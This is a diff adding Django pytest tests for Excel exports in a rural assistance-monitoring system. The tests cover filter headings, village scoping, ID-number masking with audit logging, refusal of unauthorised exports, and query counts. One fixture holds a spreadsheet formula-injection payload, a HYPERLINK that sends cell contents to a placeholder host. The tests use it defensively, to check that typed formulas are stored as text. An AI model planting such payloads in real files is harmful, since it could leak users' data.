@@ -1,0 +1,199 @@
+"""Every list page exports to .xlsx through one mechanism (bangfu.web.exports): each file names its filters in a
+row above the columns, with the export time and the exporter; it holds only the rows the exporter sees through
+that filter; ID numbers are masked text unless the exporter may reveal them (and that export is logged); nothing
+typed becomes a formula; and the queries do not grow with the rows."""
+
+import io
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+
+from bangfu.audit.models import RevealRecord
+from bangfu.cases.services import case_open
+from bangfu.jobs.models import Job
+from bangfu.monitoring.models import Lead, RiskWarning, Rule
+from bangfu.monitoring.services import lead_self_report
+from bangfu.web.exports import LIST_EXPORTS, list_export_get, list_export_write
+from tests.conftest import TUANJIE, ZHANGZHA_VILLAGE, synthetic_id
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+
+
+def _export(client, key: str, data: dict, capture) -> list[list]:
+    """POST the list page's export form; the rows of the file (through its job when it is one)."""
+    with capture(execute=True):
+        response = client.post(reverse("web:list_export", args=[key]), data)
+    if response.status_code == 200:
+        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+        content = response.content
+    else:
+        assert response.status_code == 302, response.status_code
+        job = Job.objects.latest("pk")
+        assert job.status == Job.Status.DONE, job.message
+        assert response["Location"] == reverse("jobs:job_detail", args=[job.pk])
+        assert Path(job.result_path).stat().st_mode & 0o777 == 0o600
+        content = Path(job.result_path).read_bytes()
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    return [[cell.value for cell in row] for row in book.active.iter_rows()], book.active
+
+
+def _check_heading(rows, title: str, filters: str, username: str) -> None:
+    assert rows[0][0] == title
+    assert rows[1][0] == f"筛选条件：{filters}"
+    assert rows[2][0].startswith(f"导出时间：{timezone.localtime():%Y-%m-%d}") and f"（{username}，" in rows[2][0]
+
+
+@pytest.fixture
+def world(make_household, county_admin):
+    """Two households in 团结村 and one in 漳扎村, each with an open warning, a lead and a case."""
+    tuanjie = [make_household(TUANJIE, head_name=name) for name in ("团结甲", "团结乙")]
+    zhangzha = make_household(ZHANGZHA_VILLAGE, head_name="漳扎丙")
+    rule = Rule.objects.get(code="medical_stay_oop")
+    other_rule = Rule.objects.filter(is_exclusion=False).exclude(pk=rule.pk).first()
+    now = timezone.now()
+    for household, evidence in ((tuanjie[0], FORMULA), (tuanjie[1], "住院自付 12,000 元"), (zhangzha, "住院自付")):
+        RiskWarning.objects.create(household=household, village_id=household.village_id, rule=rule,
+                                   evidence=evidence, created_at=now, updated_at=now)
+    RiskWarning.objects.create(household=tuanjie[1], village_id=TUANJIE, rule=other_rule, evidence="另一规则",
+                               created_at=now, updated_at=now)
+    numbers = {}
+    for village, name in ((TUANJIE, "申报甲"), (ZHANGZHA_VILLAGE, "申报乙")):
+        numbers[name] = synthetic_id()
+        lead_self_report(name=name, phone="13800001234", id_number=numbers[name], village_code=village,
+                         difficulty="=1+1 看病花费大", risk_type="medical", client=name)
+    for household in (*tuanjie, zhangzha):
+        case_open(actor=county_admin, household=household, summary="因病")
+    return {"tuanjie": tuanjie, "zhangzha": zhangzha, "rule": rule, "numbers": numbers}
+
+
+def test_warnings_carry_their_filters_and_only_the_exporters_village(client, tuanjie_cadre, world,
+                                                                     django_capture_on_commit_callbacks):
+    client.force_login(tuanjie_cadre)
+    page = client.get(reverse("monitoring:warning_list"), {"rule": world["rule"].code}).content.decode()
+    assert reverse("web:list_export", args=["warnings"]) in page and "导出 Excel" in page
+    assert f'name="rule" value="{world["rule"].code}"' in page  # the button carries the filter on screen
+    rows, _sheet = _export(client, "warnings", {"rule": world["rule"].code}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "预警清单", f"规则={world['rule'].name}；状态=待核实", "tuanjie_cadre")
+    assert rows[3][:2] == ["户编号", "户主"]
+    assert sorted(r[1] for r in rows[4:]) == ["团结乙", "团结甲"]  # not 漳扎, not the other rule's warning
+
+
+def test_a_formula_typed_into_a_list_stays_text(client, tuanjie_cadre, world, django_capture_on_commit_callbacks):
+    client.force_login(tuanjie_cadre)
+    rows, sheet = _export(client, "warnings", {}, django_capture_on_commit_callbacks)
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
+    assert [c.value for c in cells] == [FORMULA]
+    assert all(c.data_type == "s" for c in cells)  # a string cell, never a formula
+    rows, sheet = _export(client, "leads", {}, django_capture_on_commit_callbacks)
+    assert {c.data_type for row in sheet.iter_rows() for c in row if str(c.value).startswith("=")} == {"s"}
+
+
+def test_lead_id_numbers_are_masked_text_unless_the_exporter_may_reveal(client, tuanjie_cadre, shuanghe_reviewer,
+                                                                        world, django_capture_on_commit_callbacks):
+    number = world["numbers"]["申报甲"]
+    client.force_login(tuanjie_cadre)
+    page = client.get(reverse("monitoring:lead_list")).content.decode()
+    assert 'name="full"' not in page  # a village cadre may not export full numbers: no box to tick
+    assert client.post(reverse("web:list_export", args=["leads"]), {"full": "on"}).status_code == 403
+    rows, sheet = _export(client, "leads", {}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "识别线索", "全部", "tuanjie_cadre")
+    assert "证件号码和电话：脱敏" in rows[2][0]
+    heads = rows[3]
+    assert [r[heads.index("申报人")] for r in rows[4:]] == ["申报甲"]  # 漳扎's lead is not in a 团结 file
+    masked = rows[4][heads.index("证件号码")]
+    assert masked != number and masked[:6] == number[:6] and "*" in masked
+    assert rows[4][heads.index("联系电话")] != "13800001234"
+    assert RevealRecord.objects.filter(actor=tuanjie_cadre, field="export_masked").count() == 1
+    client.force_login(shuanghe_reviewer)
+    assert 'name="full"' in client.get(reverse("monitoring:lead_list")).content.decode()
+    rows, sheet = _export(client, "leads", {"full": "on"}, django_capture_on_commit_callbacks)
+    assert "证件号码和电话：完整（已记录）" in rows[2][0]
+    cell = sheet.cell(row=5, column=heads.index("证件号码") + 1)
+    assert cell.value == number and cell.data_type == "s"  # the full number, as text
+    assert rows[4][heads.index("联系电话")] == "13800001234"
+    assert RevealRecord.objects.filter(actor=shuanghe_reviewer, field="export_full").count() == 1
+
+
+def test_cases_carry_their_filters_and_scope(client, tuanjie_cadre, world, django_capture_on_commit_callbacks):
+    client.force_login(tuanjie_cadre)
+    assert reverse("web:list_export", args=["cases"]) in client.get(reverse("cases:case_list")).content.decode()
+    rows, _sheet = _export(client, "cases", {"kind": "identification"}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "识别与帮扶案件", "环节=未办结；类型=识别纳入", "tuanjie_cadre")
+    assert sorted(r[1] for r in rows[4:]) == ["团结乙", "团结甲"]
+
+
+def test_the_audit_log_exports_each_tab_with_its_filters(client, county_admin, world,
+                                                         django_capture_on_commit_callbacks):
+    client.force_login(county_admin)
+    page = client.get(reverse("web:audit_log"), {"object_type": "household"}).content.decode()
+    assert reverse("web:list_export", args=["audit-changes"]) in page
+    rows, _sheet = _export(client, "audit-changes", {"object_type": "household", "action": "create"},
+                           django_capture_on_commit_callbacks)
+    _check_heading(rows, "数据变更记录", "操作=新增；对象=农户", "county_admin")
+    assert len(rows[4:]) == 3 and {r[2] for r in rows[4:]} == {"新增"}
+    rows, _sheet = _export(client, "audit-reveals", {"view": "reveals"}, django_capture_on_commit_callbacks)
+    assert rows[0][0] == "敏感信息查看与导出记录" and rows[3][:3] == ["时间", "查看人", "内容"]
+
+
+def test_users_export_at_once_with_their_filters(client, county_admin, tuanjie_cadre, zhangzha_cadre,
+                                                 django_capture_on_commit_callbacks):
+    client.force_login(county_admin)
+    rows, _sheet = _export(client, "users", {"role": "village_cadre"}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "用户清单", "角色=村干部/驻村工作队", "county_admin")
+    assert sorted(r[0] for r in rows[4:]) == ["tuanjie_cadre", "zhangzha_cadre"]
+    assert not Job.objects.exists()  # a small list of no personal data: no background job
+
+
+def test_jobs_are_only_the_exporters_own(client, tuanjie_cadre, zhangzha_cadre, world,
+                                         django_capture_on_commit_callbacks):
+    client.force_login(zhangzha_cadre)
+    _export(client, "warnings", {}, django_capture_on_commit_callbacks)
+    client.force_login(tuanjie_cadre)
+    rows, _sheet = _export(client, "jobs", {}, django_capture_on_commit_callbacks)
+    assert rows[4:] == []
+
+
+def test_who_may_not_export_gets_nothing(client, regions, world, django_capture_on_commit_callbacks):
+    from tests.conftest import make_user
+
+    client.force_login(make_user("contact", "assistance_contact", TUANJIE))
+    assert "导出 Excel" not in client.get(reverse("monitoring:warning_list")).content.decode()
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(reverse("web:list_export", args=["warnings"]), {})
+    assert response.status_code == 403 and not Job.objects.exists()
+    assert client.post(reverse("web:list_export", args=["nothing"]), {}).status_code == 404
+
+
+def test_every_list_export_is_tested_here():
+    list_export_get("warnings")  # discovers them all
+    tested = {"warnings", "leads", "cases", "audit-changes", "audit-reveals", "audit-security", "users", "jobs",
+              "monitored"}
+    ledgers = {key for key in LIST_EXPORTS if key.startswith("ledger-")}  # tests/assistance
+    assert set(LIST_EXPORTS) - ledgers <= tested
+
+
+@pytest.mark.parametrize("key", ["warnings", "leads", "cases", "audit-changes"])
+def test_queries_do_not_grow_with_the_rows(key, county_admin, world, make_household):
+    export = list_export_get(key)
+
+    def queries() -> int:
+        with CaptureQueriesContext(connection) as captured:
+            list_export_write(io.BytesIO(), export, actor=county_admin, data={}, full=True)
+        return len(captured.captured_queries)
+
+    few = queries()
+    rule = world["rule"]
+    for i in range(6):
+        household = make_household(TUANJIE, head_name=f"新户{'一二三四五六'[i]}")
+        RiskWarning.objects.create(household=household, village_id=TUANJIE, rule=rule, evidence="x",
+                                   created_at=timezone.now(), updated_at=timezone.now())
+        lead_self_report(name=f"新申报{i}", phone="13800001234", id_number=synthetic_id(), village_code=TUANJIE,
+                         difficulty="生活困难", risk_type="medical", client=f"c{i}")
+        case_open(actor=county_admin, household=household, summary="因病")
+    assert Lead.objects.count() >= 8
+    assert queries() == few
